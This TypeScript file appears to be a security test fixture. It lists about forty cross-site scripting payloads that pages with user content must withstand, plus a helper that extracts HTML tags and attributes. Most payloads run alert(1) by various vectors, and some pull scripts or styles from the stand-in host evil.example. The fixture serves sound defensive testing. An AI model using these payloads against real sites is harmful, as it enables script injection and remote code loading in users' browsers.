/** Script injections that pages with user content must survive, each by another vector. */
export const SCRIPT_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=data:,alert(1)></script>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '"><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<form action=javascript:alert(1)><input type=submit autofocus></form>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css";</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
] as const

/** All parts of an HTML text that a parser would treat as a tag, with their attribute names. */
export function tagsOf(html: string): { name: string; attributes: string[] }[] {
  const tags = html.matchAll(/<\/?([a-z][^\s/>]*)((?:[^>"]|"[^"]*")*)>/gi)
  return [...tags].map(([, name = '', rest = '']) => ({
    name: name.toLowerCase(),
    attributes: [...rest.replaceAll(/"[^"]*"/g, '').matchAll(/[^\s=/]+/g)].map(([it]) =>
      it.toLowerCase(),
    ),
  }))
}
